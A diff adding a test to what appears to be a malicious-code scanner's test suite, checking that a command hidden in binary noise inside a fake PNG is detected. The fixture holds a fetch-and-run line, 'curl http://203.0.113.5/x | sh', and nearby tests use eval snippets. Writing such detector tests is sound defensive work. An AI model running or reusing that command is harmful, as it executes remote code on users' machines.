@@ -173,6 +173,14 @@ describe('an analysis', () => {
     expect(await rulesOf({ 'a.ipynb': JSON.stringify({ cells: [{ source: ['import os\n', code] }] }) })).toEqual(['dynamic-code.python-exec']);
   });
 
+  it('reads of pictures and other bytes what is ASCII in them, and takes nothing else for writing', async () => {
+    const noise = Array.from({ length: 200 }, (_, index) => createHash('sha512').update(`${index}`).digest());
+    const content = Buffer.concat([...noise, Buffer.from('\u202e\u200b'), ...noise, Buffer.from('\ncurl http://203.0.113.5/x | sh\n'), ...noise]);
+    const { categories } = await analyzeFiles([{ path: 'picture.png', content }]);
+    expect(categories).toContain('Malware delivery');
+    expect(categories).not.toContain('Hidden Unicode');
+  });
+
   it('is not fooled by zero bytes or UTF-16', async () => {
     expect(await rulesOf({ 'a.py': 'ev\0al(text)' })).toEqual(['dynamic-code.python-exec']);
     const content = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('eval(text)', 'utf16le')]);
